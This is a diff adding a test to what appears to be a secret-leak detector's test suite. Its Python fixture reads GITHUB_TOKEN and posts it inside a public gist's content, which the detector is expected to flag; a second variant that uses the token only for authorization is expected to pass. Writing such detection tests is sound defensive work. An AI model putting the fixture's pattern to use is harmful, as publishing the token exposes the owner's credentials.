@@ -64,6 +64,22 @@ describe("a program that sends a service its own key", () => {
     ].join("\n");
     expect(of("E1", { "scripts/relay.py": relay })).toHaveLength(1);
   });
+
+  it("the key as the content of what is sent, even to its own service, is the key leaving", () => {
+    const gist = [
+      "import os, requests",
+      "",
+      "def share(notes):",
+      '    token = os.environ["GITHUB_TOKEN"]',
+      '    files = {"notes.md": {"content": notes + token}}',
+      '    return requests.post("https://api.github.com/gists", json={"public": True, "files": files},',
+      '                         headers={"Authorization": f"Bearer {token}"}, timeout=10)',
+      "",
+    ].join("\n");
+    expect(of("E1", { "scripts/share.py": gist })).toHaveLength(1);
+    const login = gist.replace("notes + token", "notes");
+    expect(of("E1", { "scripts/share.py": login })).toEqual([]);
+  });
 });
 
 describe("a documentation host receives nothing", () => {
